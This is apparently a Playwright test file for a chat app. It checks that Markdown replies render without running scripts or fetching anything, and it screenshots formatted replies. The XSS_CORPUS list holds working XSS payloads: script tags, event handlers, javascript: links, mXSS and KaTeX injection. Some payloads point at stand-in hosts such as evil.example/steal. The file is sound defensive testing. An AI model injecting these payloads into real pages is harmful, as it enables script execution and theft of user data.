"""Replies are Markdown rendered in the browser: formatted, highlighted, and never able to run code or
fetch anything. Also the design screenshots (light, dark, phone) of a formatted reply."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from conversations.models import Message
from inference import streams
from tests.conversations.factories import ConversationFactory, add_exchange
from tests.e2e.conftest import screenshot
from tests.factories import UserFactory

pytestmark = pytest.mark.browser

XSS_CORPUS = [
    "<script>window.__xss = 'script tag'</script>",
    "<img src=x onerror=\"window.__xss = 'img onerror'\">",
    "![tracking pixel](https://tracker.example/pixel.png)",
    '<img src="https://tracker.example/raw.png">',
    "[click me](javascript:window.__xss='markdown link')",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"javascript:window.__xss='raw link'\">raw link</a>",
    "<a href=\"&#106;avascript:window.__xss='entity link'\">entity link</a>",
    "[reference link][evil]\n\n[evil]: javascript:window.__xss='reference'",
    "<svg onload=\"window.__xss = 'svg onload'\"><circle r=10></circle></svg>",
    "<svg><script>window.__xss = 'svg script'</script><image href='https://tracker.example/svg.png'/></svg>",
    '<iframe src="https://evil.example/frame"></iframe>',
    "<iframe srcdoc=\"<script>parent.__xss = 'srcdoc'</script>\"></iframe>",
    '<div style="background:url(https://tracker.example/bg.png)">styled div</div>',
    '<p style="width: expression(alert(1))">css expression</p>',
    "<style>body { background: url(https://tracker.example/css.png) }</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__xss='mxss'\">",
    "<details open ontoggle=\"window.__xss = 'ontoggle'\"><summary>x</summary></details>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
    '<form action="https://evil.example/steal"><input name=q autofocus onfocus="window.__xss=\'focus\'"></form>',
    "<video src=x onerror=\"window.__xss = 'video'\"></video><audio src=https://tracker.example/a.mp3>",
    '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">[relative](/steal)',
    "Inline `<script>window.__xss='code'</script>` and a block:\n\n```html\n<script>window.__xss='block'</script>\n```",
    # Math is typeset by KaTeX with trust off: no link, no class or style of the model's choosing.
    "$\\href{javascript:window.__xss='katex href'}{click}$ and $\\url{https://tracker.example/u}$",
    "$$\\htmlStyle{background:url(https://tracker.example/k.png)}{x} \\htmlClass{x}{y}$$",
    "- [x] <img src=x onerror=\"window.__xss='task'\"> and <input type=text autofocus onfocus=\"window.__xss='i'\">",
]
FORBIDDEN_TAGS = "script, iframe, object, embed, img, svg, math, style, link, meta, base, form, input, video, audio"

FORMATTED_REPLY = """Here is a **small** example, with `inline code` and a [link](https://example.org).

## Reverse a list in Python

1. Use slicing for a *new* list.
2. Use `list.reverse()` to change it in place.

```python
def reversed_copy(items: list[int]) -> list[int]:
    # A new list; the original is left alone.
    return items[::-1]

print(reversed_copy([1, 2, 3]))  # [3, 2, 1]
```

| method | new list | cost |
|---|---|---|
| `items[::-1]` | yes | O(n) |
| `items.reverse()` | no | O(n) |

> Slicing never changes the original.
"""


def test_the_markdown_sanitiser_lets_no_payload_run_or_fetch(page: Page, sign_in, llm_model):
    user = UserFactory()
    conversation = ConversationFactory(owner=user, title="<img src=x onerror=\"window.__xss='title'\">")
    parent = None
    for payload in XSS_CORPUS:
        _question, parent = add_exchange(conversation, parent=parent, question=payload, answer=payload)
    # The last payload also arrives the way replies do: streamed, in small pieces.
    _question, streamed = add_exchange(conversation, parent=parent, question="again", status=Message.Status.RUNNING)
    writer = streams.StreamWriter(streamed.pk)
    sign_in(user)

    page.goto(f"/c/{conversation.pk}/")
    everything = "\n\n".join(XSS_CORPUS)
    for start in range(0, len(everything), 40):
        writer.delta(everything[start : start + 40])
    Message.objects.filter(pk=streamed.pk).update(content=everything, status="completed", finish_reason="stop")
    writer.done(finish_reason="stop", usage=None)
    expect(page.get_by_role("button", name="Send message")).to_be_visible()
    page.wait_for_timeout(500)  # time for anything that would run late (onload, onerror, autofocus)

    markdown = page.locator("article.message-assistant .markdown")
    expect(markdown).to_have_count(len(XSS_CORPUS) + 1)
    assert page.evaluate("window.__xss") is None
    assert page.external_requests == []
    # KaTeX's own output (its MathML, and the sizes it sets through the CSSOM) is the only exception.
    outside_math = page.evaluate(
        f"""() => [...document.querySelectorAll("main [style]:not(textarea), .markdown :is({FORBIDDEN_TAGS})")]
            .filter((el) => !el.closest(".katex") && !(el.matches("input[type=checkbox][disabled]")
                && el.parentElement.matches("li.task-item")))
            .map((el) => el.outerHTML)"""
    )
    assert outside_math == []
    attributes = page.evaluate(
        """() => [...document.querySelectorAll('article.message *')]
            .flatMap((el) => [...el.attributes].map((a) => a.name))
            .filter((name) => name.startsWith('on'))"""
    )
    assert attributes == []
    assert page.locator(".katex a, .katex .x").count() == 0
    hrefs = markdown.locator("a").evaluate_all("(links) => links.map((a) => a.getAttribute('href'))")
    assert hrefs and all(href is None or href.startswith(("https:", "http:", "mailto:")) for href in hrefs)
    # What was dangerous is shown as text, where it harms nobody.
    expect(markdown.nth(0)).to_have_text("<script>window.__xss = 'script tag'</script>")
    expect(markdown.last.locator("pre code")).to_have_text("<script>window.__xss='block'</script>")
    expect(page.locator("article.message-user .message-body").first).to_have_text(XSS_CORPUS[0])


def test_a_formatted_reply_in_light_dark_and_on_a_phone(page: Page, sign_in, llm_model):
    user = UserFactory(display_name="Ada Lovelace")
    for title in ("Weekend plans", "Tea or coffee?", "Birthday gift ideas"):
        add_exchange(ConversationFactory(owner=user, title=title))
    conversation = ConversationFactory(owner=user, title="Reverse a list in Python", pinned=True)
    add_exchange(conversation, question="How do I reverse a list in Python?", answer=FORMATTED_REPLY)
    sign_in(user)

    page.goto(f"/c/{conversation.pk}/")
    code = page.locator(".code-block")
    expect(code.locator(".code-header span")).to_have_text("python")
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(page.locator(".markdown table th").first).to_have_text("method")
    expect(page.locator(".conversation-group-title").first).to_have_text("Pinned")
    screenshot(page, "chat-light")

    page.get_by_role("button", name="Switch between light and dark theme").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    screenshot(page, "chat-dark")

    page.set_viewport_size({"width": 390, "height": 844})
    expect(page.locator("[data-sidebar]")).to_be_hidden()
    screenshot(page, "chat-phone")
    page.get_by_role("button", name="Show or hide the chat list").click()
    expect(page.get_by_label("Search chats")).to_be_focused()
    page.wait_for_timeout(300)  # the sidebar slides in
    screenshot(page, "chat-phone-sidebar")
    page.keyboard.press("Escape")
    expect(page.locator("[data-sidebar]")).to_be_hidden()


MATH_TABLE_TASKS = """Euler's identity is $e^{i\\pi} + 1 = 0$; the tickets cost $5 and $10.

$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$

| left | centre | right |
|:---|:---:|---:|
| a | b | 10.5 |

- [x] typeset the math
- [ ] keep the alignment

3. a list that starts at three
4. and goes on
"""


def test_math_table_alignment_and_task_lists_render(page: Page, sign_in, llm_model):
    user = UserFactory()
    conversation = ConversationFactory(owner=user, title="Formatting")
    add_exchange(conversation, question="Show me", answer=MATH_TABLE_TASKS)
    sign_in(user)

    page.goto(f"/c/{conversation.pk}/")
    reply = page.locator("article.message-assistant .markdown")
    expect(reply.locator(".math-inline .katex")).to_have_count(1)
    expect(reply.locator(".math-display .katex-display")).to_have_count(1)
    expect(reply.locator(".math-inline .katex-mathml annotation")).to_have_text("e^{i\\pi} + 1 = 0")
    expect(reply).to_contain_text("the tickets cost $5 and $10.")  # money is not math
    alignments = reply.locator("td").evaluate_all("(cells) => cells.map((c) => getComputedStyle(c).textAlign)")
    assert alignments == ["left", "center", "right"]
    boxes = reply.locator("li.task-item > input[type=checkbox]")
    expect(boxes).to_have_count(2)
    assert boxes.evaluate_all("(inputs) => inputs.map((i) => [i.checked, i.disabled])") == [[True, True], [False, True]]
    expect(reply.locator('ol[start="3"] li')).to_have_count(2)
    screenshot(page, "chat-math-table-tasks")
